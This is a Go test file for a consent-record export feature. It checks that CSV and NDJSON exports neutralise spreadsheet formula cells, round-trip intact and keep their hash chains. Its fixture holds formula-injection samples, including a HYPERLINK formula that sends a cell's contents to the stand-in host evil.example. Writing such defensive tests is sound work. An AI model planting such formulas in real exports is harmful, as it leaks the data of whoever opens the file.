package formbuilder

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// sliceLog is a ConsentLog over a slice; only ExportRecords is used.
type sliceLog struct {
	ConsentLog
	recs []*ConsentRecord
}

func (l *sliceLog) ExportRecords(ctx context.Context, f RecordFilter, fn func(*ConsentRecord) error) error {
	for _, r := range l.recs {
		if f.AfterID > 0 && r.ID <= f.AfterID {
			continue
		}
		if err := fn(r); err != nil {
			return err
		}
	}
	return nil
}

// trickyRecords returns a sealed chain of entries whose visitor- and
// admin-controlled fields hold formulas, separators, quotes, line breaks
// and non-ASCII text.
func trickyRecords() []*ConsentRecord {
	subjects := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1 555 0100", "-2", "@SUM(A1:A9)",
		"\tTabbed", "\rReturn", "'quoted", "''twice", "Jürgen Müller, \"Jü\" 日本語 😀",
		"line1\nline2\r\nline3", "plain@example.com", "", " =not a formula (leading space)",
	}
	var out []*ConsentRecord
	prev := GenesisHash
	for i, s := range subjects {
		r := goldenRecord()
		r.ID = int64(i + 1)
		r.Time = time.Date(2026, 3, 1, 12, 0, i, 1000*i, time.UTC)
		r.Subject = s
		r.UserAgent = "Agent, with \"quotes\"\nand =formula"
		r.ConsentName = "@Consent"
		r.Source = "-Form; name"
		r.InitialState = i%2 == 0
		r.Interacted = i%3 == 0
		if i == 5 {
			r.Action = ActionWithdrawn
			r.WithdrawsID = 2
			r.SubmissionID = 0
		}
		if i == 6 {
			r.FormID, r.FormKey, r.ChannelID = 0, "", 4
		}
		if i == 3 {
			r.Document = &Document{SHA256: goldenContentHash, Name: "=policy.pdf", ContentType: DocPDF, Size: 1234}
		}
		if i == 7 {
			// Given, to be confirmed by e-mail (double opt-in) ...
			r.ConfirmBy = r.Time.Add(DefaultConfirmWithin + 123456789)
		}
		if i == 8 {
			// ... and its confirmation.
			r.Action, r.ConfirmsID = ActionConfirmed, 8
		}
		r.Seal(prev)
		prev = r.Hash
		out = append(out, &r)
	}
	return out
}

func TestNeutraliseCell(t *testing.T) {
	for _, s := range []string{"=1+1", "+1", "-1", "@x", "\tx", "\rx", "'x"} {
		n := NeutraliseCell(s)
		assert.Equal(t, "'"+s, n)
		assert.Equal(t, s, UnneutraliseCell(n))
	}
	for _, s := range []string{"", "a=1", " =1", "1-2", "ok@example.com", "ü"} {
		assert.Equal(t, s, NeutraliseCell(s))
		assert.Equal(t, s, UnneutraliseCell(NeutraliseCell(s)))
	}
}

func TestCSVExportRoundTrip(t *testing.T) {
	recs := trickyRecords()
	var buf bytes.Buffer
	n, err := Export(context.Background(), &sliceLog{recs: recs}, RecordFilter{}, FormatCSV, "https://forms.example", &buf, nil)
	require.NoError(t, err)
	require.EqualValues(t, len(recs), n)

	// A plain CSV reader sees the raw cells: header first, every dangerous
	// cell starts with an apostrophe.
	raw, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, raw, len(recs)+1)
	assert.Equal(t, CSVColumns, raw[0])
	col := func(name string) int {
		for i, c := range CSVColumns {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	for i, row := range raw[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a formula character: %q", i+1, CSVColumns[j], cell)
			}
		}
		s := strings.ReplaceAll(recs[i].Subject, "\r\n", "\n") // see below
		if s != "" && strings.ContainsRune("=+-@\t\r'", rune(s[0])) {
			assert.Equal(t, "'"+s, row[col("subject")])
		} else {
			assert.Equal(t, s, row[col("subject")])
		}
		assert.Equal(t, "'@Consent", row[col("consent_name")])
		assert.Equal(t, "'-Form; name", row[col("source")])
		assert.Equal(t, map[bool]string{true: "true", false: "false"}[recs[i].PreTickedUntouched()],
			row[col("pre_ticked_untouched")])
	}
	assert.Equal(t, "", raw[7][col("form_id")], "absent references are empty cells")
	assert.Equal(t, "4", raw[7][col("channel_id")])
	// The document the label linked to: its hash and exactly that file.
	assert.Equal(t, goldenContentHash, raw[4][col("document_sha256")])
	assert.Equal(t, "https://forms.example/d/"+goldenContentHash+".pdf", raw[4][col("document_url")])
	assert.Equal(t, "", raw[1][col("document_sha256")])
	assert.Equal(t, "", raw[1][col("document_url")])

	// The decoder gives back the very entries, and their hashes still hold.
	dec := NewCSVDecoder(bytes.NewReader(buf.Bytes()))
	for i := 0; ; i++ {
		r, err := dec.Decode()
		if errors.Is(err, io.EOF) {
			require.Equal(t, len(recs), i)
			break
		}
		require.NoError(t, err)
		want := *recs[i]
		if want.Document != nil {
			// The file's hash; its name and type are the server's to say.
			want.Document = &Document{SHA256: want.Document.SHA256}
		}
		if strings.Contains(want.Subject, "\r\n") {
			// encoding/csv reads CRLF inside a quoted value as LF (the file
			// holds the CRLF); such a row no longer matches its hash.
			// NDJSON is the lossless format.
			want.Subject = strings.ReplaceAll(want.Subject, "\r\n", "\n")
			assert.Equal(t, want, *r, "entry %d", i+1)
			continue
		}
		assert.Equal(t, want, *r, "entry %d", i+1)
		assert.Equal(t, r.Hash, r.ComputeHash(), "entry %d", i+1)
	}
}

func TestNDJSONExportRoundTrip(t *testing.T) {
	recs := trickyRecords()
	var buf bytes.Buffer
	n, err := Export(context.Background(), &sliceLog{recs: recs}, RecordFilter{}, FormatNDJSON, "https://forms.example", &buf, nil)
	require.NoError(t, err)
	require.EqualValues(t, len(recs), n)
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	require.Len(t, lines, len(recs), "one line per entry, line breaks inside values are escaped")
	for i, l := range lines {
		var r ConsentRecord
		require.NoError(t, json.Unmarshal([]byte(l), &r))
		r.Time = r.Time.UTC()
		assert.Equal(t, *recs[i], r)
		var flags struct {
			PreTicked   *bool  `json:"pre_ticked_untouched"`
			DocumentURL string `json:"document_url"`
		}
		require.NoError(t, json.Unmarshal([]byte(l), &flags))
		require.NotNil(t, flags.PreTicked)
		assert.Equal(t, recs[i].PreTickedUntouched(), *flags.PreTicked)
		assert.Equal(t, recs[i].DocumentURL("https://forms.example"), flags.DocumentURL)
		if recs[i].Document != nil {
			assert.Equal(t, "https://forms.example/d/"+goldenContentHash+".pdf", flags.DocumentURL)
		}
	}
}

func TestEmptyExportHasHeader(t *testing.T) {
	var buf bytes.Buffer
	n, err := Export(context.Background(), &sliceLog{}, RecordFilter{}, FormatCSV, "", &buf, nil)
	require.NoError(t, err)
	assert.Zero(t, n)
	assert.Equal(t, strings.Join(CSVColumns, ",")+"\n", buf.String())
	buf.Reset()
	_, err = Export(context.Background(), &sliceLog{}, RecordFilter{}, FormatNDJSON, "", &buf, nil)
	require.NoError(t, err)
	assert.Empty(t, buf.String())
	_, err = Export(context.Background(), &sliceLog{}, RecordFilter{}, "xlsx", "", &buf, nil)
	assert.Equal(t, EINVALID, ErrorCode(err))
}

// countingWriter records how often it was flushed and how much had arrived.
type countingWriter struct {
	bytes.Buffer
	flushes []int
}

func (w *countingWriter) Flush() error {
	w.flushes = append(w.flushes, w.Len())
	return nil
}

func TestExportFlushesAsItGoes(t *testing.T) {
	var recs []*ConsentRecord
	for i := 0; i < 3*ExportFlushRows+7; i++ {
		r := goldenRecord()
		r.ID = int64(i + 1)
		recs = append(recs, &r)
	}
	w := &countingWriter{}
	var progress []int64
	n, err := Export(context.Background(), &sliceLog{recs: recs}, RecordFilter{}, FormatNDJSON, "", w,
		func(rows int64) { progress = append(progress, rows) })
	require.NoError(t, err)
	require.EqualValues(t, len(recs), n)
	require.Len(t, w.flushes, 4, "every ExportFlushRows entries and at the end")
	assert.Equal(t, []int64{ExportFlushRows, 2 * ExportFlushRows, 3 * ExportFlushRows, int64(len(recs))}, progress)
	for i := 1; i < len(w.flushes); i++ {
		assert.Greater(t, w.flushes[i], w.flushes[i-1], "data reaches the writer at each flush")
	}

	// A failing writer (a client that went away) stops the export.
	pr, pw := io.Pipe()
	pr.Close()
	bw := bufio.NewWriterSize(pw, 16)
	_, err = Export(context.Background(), &sliceLog{recs: recs}, RecordFilter{}, FormatCSV, "", bw, nil)
	require.Error(t, err)

	// So does a cancelled context.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	n, err = Export(ctx, &sliceLog{recs: recs}, RecordFilter{}, FormatCSV, "", io.Discard, nil)
	require.ErrorIs(t, err, context.Canceled)
	assert.EqualValues(t, 1, n)
}

// TestCSVDecoderReadsExportsFromBeforeDocuments: an archived export without
// the document columns, or without the double opt-in ones, still decodes
// and its hashes still hold.
func TestCSVDecoderReadsExportsFromBeforeDocuments(t *testing.T) {
	recs := trickyRecords()[:3]
	var full bytes.Buffer
	_, err := Export(context.Background(), &sliceLog{recs: recs}, RecordFilter{}, FormatCSV, "", &full, nil)
	require.NoError(t, err)
	rows, err := csv.NewReader(&full).ReadAll()
	require.NoError(t, err)
	for _, head := range [][]string{csvColumnsV1, csvColumnsV2} {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		require.NoError(t, w.Write(head))
		for _, row := range rows[1:] {
			require.NoError(t, w.Write(row[:len(head)]))
		}
		w.Flush()
		dec := NewCSVDecoder(&buf)
		for i := range recs {
			r, err := dec.Decode()
			require.NoError(t, err, "%d columns", len(head))
			assert.Equal(t, recs[i].Hash, r.ComputeHash(), "%d columns", len(head))
		}
		_, err = dec.Decode()
		assert.ErrorIs(t, err, io.EOF)
	}
}

func TestCSVDecoderRejectsForeignFiles(t *testing.T) {
	_, err := NewCSVDecoder(strings.NewReader("a,b\n1,2\n")).Decode()
	require.Error(t, err)
	_, err = NewCSVDecoder(strings.NewReader("")).Decode()
	require.Error(t, err)
	var buf bytes.Buffer
	enc := NewCSVEncoder(&buf, "")
	r := goldenRecord()
	require.NoError(t, enc.Encode(&r))
	require.NoError(t, enc.Flush())
	bad := strings.Replace(buf.String(), "2026-03-01T12:30:45.123456789Z", "yesterday", 1)
	_, err = NewCSVDecoder(strings.NewReader(bad)).Decode()
	require.ErrorContains(t, err, "bad time")
	// A confirm_by that is no time is refused too.
	buf.Reset()
	enc = NewCSVEncoder(&buf, "")
	r.ConfirmBy = r.Time.Add(time.Hour)
	require.NoError(t, enc.Encode(&r))
	require.NoError(t, enc.Flush())
	bad = strings.Replace(buf.String(), r.ConfirmBy.Format(time.RFC3339Nano), "next week", 1)
	require.NotEqual(t, buf.String(), bad)
	_, err = NewCSVDecoder(strings.NewReader(bad)).Decode()
	require.ErrorContains(t, err, "bad confirm_by")
}

func TestParseTimeBound(t *testing.T) {
	d, err := ParseTimeBound("2026-03-01", false)
	require.NoError(t, err)
	assert.Equal(t, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), d)
	d, err = ParseTimeBound("2026-03-01", true)
	require.NoError(t, err)
	assert.Equal(t, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC), d, "a date as upper bound includes the day")
	d, err = ParseTimeBound("2026-03-01T13:00:00+01:00", true)
	require.NoError(t, err)
	assert.Equal(t, time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC), d)
	d, err = ParseTimeBound("  ", false)
	require.NoError(t, err)
	assert.True(t, d.IsZero())
	for _, bad := range []string{"2026-13-01", "yesterday", "2026-03-01 12:00", "1709290000"} {
		_, err := ParseTimeBound(bad, false)
		assert.Error(t, err, bad)
	}
}

// FuzzCSVDecoder: whatever a file holds, the decoder returns entries or an
// error, never panics; and an entry written by the encoder with arbitrary
// text in its free-text cells comes back with its hash intact (CR LF
// inside a cell aside, which encoding/csv reads as LF).
func FuzzCSVDecoder(f *testing.F) {
	var seed bytes.Buffer
	_, err := Export(context.Background(), &sliceLog{recs: trickyRecords()}, RecordFilter{}, FormatCSV, "", &seed, nil)
	require.NoError(f, err)
	f.Add(seed.Bytes(), "=cmd", "x\ny")
	f.Add([]byte(strings.Join(csvColumnsV2, ",")+"\n1,2\n"), "", "")
	f.Add([]byte(strings.Join(CSVColumns, ",")+"\n"+strings.Repeat(",", len(CSVColumns)-1)+"\n"), "'", "\t")
	f.Fuzz(func(t *testing.T, file []byte, subject, agent string) {
		dec := NewCSVDecoder(bytes.NewReader(file))
		for range 50 {
			if _, err := dec.Decode(); err != nil {
				break
			}
		}
		if !utf8.ValidString(subject) || !utf8.ValidString(agent) || strings.Contains(subject+agent, "\r") {
			return
		}
		r := goldenRecord()
		r.Subject, r.UserAgent = subject, agent
		r.ConfirmBy = r.Time.Add(time.Hour)
		r.Seal(GenesisHash)
		var buf bytes.Buffer
		enc := NewCSVEncoder(&buf, "")
		require.NoError(t, enc.Encode(&r))
		require.NoError(t, enc.Flush())
		got, err := NewCSVDecoder(&buf).Decode()
		require.NoError(t, err)
		assert.Equal(t, r.Hash, got.ComputeHash())
	})
}
